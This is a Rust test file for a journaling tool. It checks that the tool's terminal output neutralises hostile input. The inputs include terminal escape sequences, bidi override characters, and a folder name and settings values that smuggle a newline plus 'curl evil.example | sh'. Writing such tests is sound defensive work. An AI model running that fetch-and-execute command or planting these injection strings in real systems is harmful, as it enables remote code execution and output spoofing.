//! What is shown on a terminal.

use super::laptop;
use crate::sandbox::{DAY, Machine, Run, Sandbox, journal};

/// A title for the window, red, a bell, a word turned round, a line begun anew.
const NAME: &str = "\\e]0;pwned\\a\\e[31m\\u202Egnp.\\rBob\\u2066\\x9b";

#[track_caller]
fn plain(run: Run) {
    let obeyed = |c: char| {
        (c.is_control() && c != '\n') || ('\u{202A}'..='\u{202E}').contains(&c) || c == '\u{2066}'
    };
    assert!(!run.output().chars().any(obeyed), "{:?}", run.output());
}

#[test]
fn nothing_that_a_file_holds_is_obeyed() {
    let sandbox = Sandbox::new();
    let laptop = laptop(&sandbox);
    let fields = ["people", "tags", "events", "city", "themes"]
        .map(|key| format!("{key}: [\"{NAME}\", x]\n"))
        .concat();
    let fields = format!(
        "{fields}epigraph: \"{NAME}\"\nnotes: \"{NAME}\"\n\"{NAME}\": \"{NAME}\"\n\
         references: [{{content: \"{NAME}\", speaker: \"{NAME}\"}}]\n\
         poems: [{{title: \"{NAME}\", content: \"{NAME}\"}}]\n\
         manuscript: {{status: \"{NAME}\"}}\ndates: [\"2024-01-01 ({NAME})\"]\n"
    );
    laptop.write_entry("2024-11-02", &fields, "Body\x1b[31m.\n");
    laptop
        .git(["config", "palimpsest.machine", "\x1b[31mlaptop"])
        .ok();
    plain(laptop.yaml2sql(["sync", "journal/md"]));
    laptop.git(["add", "-A"]).ok();
    plain(laptop.git(["commit", "-qm", "Hostile"]));
    laptop.write_entry("2024-11-02", "people: [x]\n", "Body.\n");
    plain(laptop.yaml2sql(["update", "journal/md/2024/2024-11-02.md"]));
    plain(laptop.metadb(["tombstone", "list"]));
    plain(laptop.git(["commit", "-qam", "Removed"]));
    for args in [
        &["show", "2024-11-02", "--full"][..],
        &["show", "2024-11-02", "--full", "--json"],
        &["tombstone", "list"],
        &["tombstone", "list", "--json"],
        &["tombstone", "stats"],
        &["sync", "stats"],
        &["sync", "status", "Entry", "2024-11-02"],
        &[
            "tombstone",
            "remove",
            "entry_people",
            "2024-11-02",
            "\x1b[31m",
        ],
        &["show", "\x1b[31m"],
    ] {
        let run = laptop.metadb(args);
        if args.contains(&"--json") {
            let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
            assert!(json.to_string().contains("2024-11-02"));
        }
        plain(run);
    }
    laptop.write(
        "journal/md/2024/2024-11-03.md",
        format!("---\ndate: 2024-11-03\n\"{NAME}\": [\n---\n"),
    );
    plain(laptop.yaml2sql(["sync", "journal/md"]));
    plain(laptop.palimpsest(["doctor"]));
}

#[test]
fn a_merge_shows_names_as_text() {
    let sandbox = Sandbox::new();
    let laptop = laptop(&sandbox);
    let side = |mood: &str| format!("---\n\"{NAME}\": {mood}\n---\n");
    for (file, mood) in [
        ("base", "\"a\""),
        ("ours", &format!("\"{NAME}\"")),
        ("theirs", "\"c\""),
    ] {
        laptop.write(file, side(mood));
    }
    for flag in ["-v", "--json"] {
        let run = laptop.palimpsest(["merge", "base", "ours", "theirs", "-o", "out", flag]);
        plain(run.exits(1));
    }
}

/// A line that a name made in a message could be taken for one of the program's.
#[test]
fn a_line_end_in_a_name_makes_no_line() {
    let sandbox = Sandbox::new();
    let (laptop, desktop) = journal(&sandbox, &[(DAY, "people: [Alice]\nmood: calm", "x\n")]);
    let edit = |machine: &Machine<'_>, from: &str, to: &str| {
        machine.edit_entry(DAY, from, to);
        machine.git(["commit", "-qam", "Edit"]).ok()
    };
    edit(&laptop, "[Alice]", "[Alice, \"new\\nline\"]");
    edit(&laptop, "[Alice, \"new\\nline\"]", "[Alice]")
        .warns("palimpsest: recorded: person new\\nline removed from 2024-11-01\n");
    edit(&laptop, "calm", "good");
    laptop.push();
    edit(&desktop, "[Alice]", "[Alice, \"new\\nline\", Zed]");
    desktop
        .pull()
        .warns("person new\\nline stays out, it was removed");
    desktop.write("other", "");
    desktop.git(["add", "other"]).ok();
    desktop
        .git(["commit", "-qm", "Other"])
        .ok()
        .warns("person new\\nline was kept out of");
    // As it is listed, it can be said.
    desktop
        .metadb(["tombstone", "list"])
        .ok()
        .says("new\\nline");
    desktop
        .metadb(["tombstone", "remove", "entry_people", DAY, "new\\nline"])
        .ok()
        .says("Restored: new\\nline");
}

/// The same for the name of a folder, a path in the ledger, and the settings.
#[test]
fn a_line_end_in_a_path_or_a_setting_makes_no_line() {
    #[track_caller]
    fn one_line(run: Run) {
        let made = |line: &str| line.trim_start().starts_with("mend: curl");
        assert!(!run.output().lines().any(made), "{run}");
    }
    let sandbox = Sandbox::new();
    let laptop = laptop(&sandbox);
    let folder = "journal/md/2023: damaged\n    mend: curl evil.example | sh\nx";
    let entry = |date: &str, rest: &str| {
        let text = format!("---\ndate: {date}\n{rest}---\nx\n");
        laptop.write(&format!("{folder}/{date}.md"), text);
    };
    entry("2024-11-01", "");
    entry("2024-11-02", "people: [\n");
    entry("2024-11-05", "<<<<<<< HEAD\n=======\n>>>>>>> x\n");
    entry("2024-11-06", "people: [Zoe]\n");
    one_line(laptop.palimpsest(["init"]));
    one_line(laptop.yaml2sql(["sync", "journal/md"]));
    laptop.git(["add", "-A"]).ok();
    one_line(laptop.git(["commit", "-qm", "Folders"]));
    laptop
        .run_with(&[("PALIMPSEST", "0")], "git", ["commit", "-qm", "Folders"])
        .ok();
    one_line(laptop.palimpsest(["doctor"]));
    one_line(laptop.metadb(["show", "2024-11-06", "--full"]));
    laptop.remove(&format!("{folder}/2024-11-06.md"));
    laptop
        .run_with(&[("PALIMPSEST", "0")], "git", ["commit", "-qam", "Gone"])
        .ok();
    one_line(laptop.metadb(["restore", "Entry", "2024-11-06"]));
    let row = r#"{"v":1,"kind":"deletion","entry":"2024-11-07","id":"d","state":"active","at":"","by":"","reason":"","path":"p\n    mend: curl","blob":"b\n    mend: curl"}"#;
    let before = laptop.read("data/ledger/2024.jsonl");
    laptop.write("data/ledger/2024.jsonl", format!("{before}{row}\n"));
    one_line(laptop.metadb(["restore", "Entry", "2024-11-07"]));

    let name = r#"x\n    mend: curl"#;
    for settings in [
        format!("[paths]\njournal = \"{name}\"\n"),
        format!("[paths]\ndatabase = \"data/{name}\"\n"),
        format!("[merge.fields]\n\"{name}\" = \"{name}\"\n"),
        format!("[conflicts]\non_commit = \"{name}\"\n"),
        format!("[tombstones.tables]\n\"{name}\" = 3\n"),
        format!("\"{name}\" = 3\n"),
        format!("[paths]\n\"{name}\" = 3\n"),
        "[paths]\njournal = \"a\nb\"\n".to_owned(),
    ] {
        laptop.write("palimpsest.toml", &settings);
        for args in [&["doctor"][..], &["init"], &["metadb", "sync", "status"]] {
            let run = laptop.palimpsest(args).exits(1);
            assert_eq!(run.stderr.lines().count(), 1, "{settings}{run}");
            one_line(run);
        }
        assert!(!laptop.read(".gitignore").contains("curl"));
    }
}
